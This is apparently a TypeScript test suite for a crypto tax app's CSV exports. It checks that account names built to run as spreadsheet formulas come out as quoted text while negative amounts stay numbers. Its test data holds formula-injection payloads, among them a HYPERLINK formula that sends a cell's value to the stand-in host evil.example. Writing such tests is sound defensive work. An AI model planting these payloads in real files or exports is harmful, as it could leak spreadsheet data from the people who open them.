import { allocationCsv } from '@lotwise/engine/form8949';
import { readRecords } from '@lotwise/importers/core/csv';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS } from './support/dialects.ts';
import { TestClient } from './support/http-client.ts';
import { startTestServer, type TestServer } from './support/test-server.ts';

/**
 * Issue 29.5: account names a spreadsheet would run as formulas come out of every CSV as
 * text (a leading apostrophe), while negative amounts stay numbers. One account per hostile
 * name, each with a buy, a sale at a loss and a reward, so the names reach capital-gains.csv,
 * income.csv, the TurboTax and TaxAct files and the transactions export.
 */
const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '@SUM(1)', '-2+3'];
/** Account names are trimmed when saved; a cell of the record may still start with a tab or CR. */
const RECORD_NAMES = [...NAMES, '\tTabbed', '\rReturned'];
const HEADER =
  'Date,Sent Amount,Sent Currency,Received Amount,Received Currency,Fee Amount,Fee Currency,Net Worth Amount,Net Worth Currency,Label,Description,TxHash';
const ledger = (i: number) =>
  [
    HEADER,
    `2024-03-0${i + 1} 12:00:00 UTC,100,USD,1,LTC,,,100,USD,,Buy,`,
    `2024-09-0${i + 1} 12:00:00 UTC,1,LTC,87.5,USD,,,87.5,USD,,Sell,`,
    `2024-10-0${i + 1} 12:00:00 UTC,,,0.1,LTC,,,7.25,USD,reward,Reward,`,
  ].join('\n');

/** A cell a spreadsheet would run: starts with = + - @ tab or CR and is not a plain number. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-(\d+(\.\d*)?|\.\d+)$/.test(cell);

function cellsOf(csv: string): string[][] {
  return [...readRecords(csv, ',')].map((r) => r.cells);
}

function expectSafe(name: string, csv: string, walletColumn: string) {
  const rows = cellsOf(csv).filter((r) => !r[0]?.startsWith('#'));
  const header = rows[0] ?? [];
  const column = header.indexOf(walletColumn);
  expect(column, `${name}: ${header.join(',')}`).toBeGreaterThanOrEqual(0);
  const wallets = new Set(rows.slice(1).map((r) => r[column]));
  // Every hostile name is there, as text.
  for (const hostile of NAMES) expect(wallets, name).toContain(`'${hostile}`);
  for (const row of rows) for (const cell of row) expect(runnable(cell), `${name}: ${cell}`).toBe(false);
}

for (const dialect of DIALECTS) {
  describe(`${dialect}: no CSV Lotwise writes runs as a formula`, () => {
    let server: TestServer;
    let alice: TestClient;

    beforeAll(async () => {
      server = await startTestServer(dialect);
      alice = new TestClient(server.app);
      const res = await alice.post('/api/auth/sign_up', {
        email: 'alice@example.com',
        password: 'correct horse 9',
        first_name: 'Alice',
      });
      await server.ctx.users.update(res.body.user.id, { onboarded: true });
      for (const [i, name] of NAMES.entries()) {
        const up = await alice.upload(
          '/api/imports/v1/csv_imports',
          { name: `ltc-${i}.csv`, content: ledger(i) },
          { new_account: 'true', custom_name: name },
        );
        expect(up.status, JSON.stringify(up.body)).toBe(200);
        await server.ctx.jobs.idle();
      }
      expect((await alice.post('/api/recalculate_tax')).status).toBe(200);
      await server.ctx.jobs.idle();
    });
    afterAll(() => server.dispose());

    it('capital-gains.csv: names as text, the loss a negative number', async () => {
      const csv = (await alice.get('/api/tax/reports/2024/capital-gains.csv')).body as string;
      expectSafe('capital-gains.csv', csv, 'wallet');
      const rows = cellsOf(csv);
      const gain = rows[0]!.indexOf('gain');
      expect(rows.slice(1).map((r) => r[gain])).toContain('-12.50');
    });

    it('income.csv: names as text', async () => {
      expectSafe('income.csv', (await alice.get('/api/tax/reports/2024/income.csv')).body, 'wallet');
    });

    it('TurboTax and TaxAct files: no runnable cell, the loss kept as a number', async () => {
      for (const form of ['turbotax.csv', 'taxact.csv']) {
        const res = await alice.get(`/api/tax/reports/2024/${form}`);
        expect(res.status, form).toBe(200);
        for (const row of cellsOf(res.body))
          for (const cell of row) expect(runnable(cell), `${form}: ${cell}`).toBe(false);
      }
    });

    it('the transactions export: names as text, amounts as numbers', async () => {
      const csv = (await alice.get('/api/transaction/download_users_transactions/all')).body as string;
      expectSafe('transactions export', csv, 'Account');
      const rows = cellsOf(csv);
      expect(rows.slice(1).map((r) => r[rows[0]!.indexOf('Received Amount')])).toContain('87.5');
    });
  });
}

describe('the allocation record (lotwise calc --allocation-csv and /api/review/allocation.csv)', () => {
  it('writes hostile wallet names as text and negative numbers as numbers', () => {
    const csv = allocationCsv(
      {
        effectiveDate: '2025-01-01',
        rule: 'stay-oldest-first',
        entries: RECORD_NAMES.map((wallet, i) => ({
          wallet,
          asset: '@SUM(1)',
          lotId: `lot-${i}`,
          acquiredAt: '2024-03-01',
          amount: '0.5',
          costBasis: '-12.50',
        })),
      } as Parameters<typeof allocationCsv>[0],
      '2025-01-02',
    );
    const rows = cellsOf(csv);
    expect(rows[0]).toContain('rule_chosen_at');
    expect(rows.slice(1).map((r) => r[2])).toEqual(RECORD_NAMES.map((n) => `'${n}`));
    expect(rows[1]?.[3]).toBe("'@SUM(1)");
    expect(rows[1]?.[7]).toBe('-12.50');
    expect(rows[1]?.[8]).toBe('2025-01-02');
  });
});
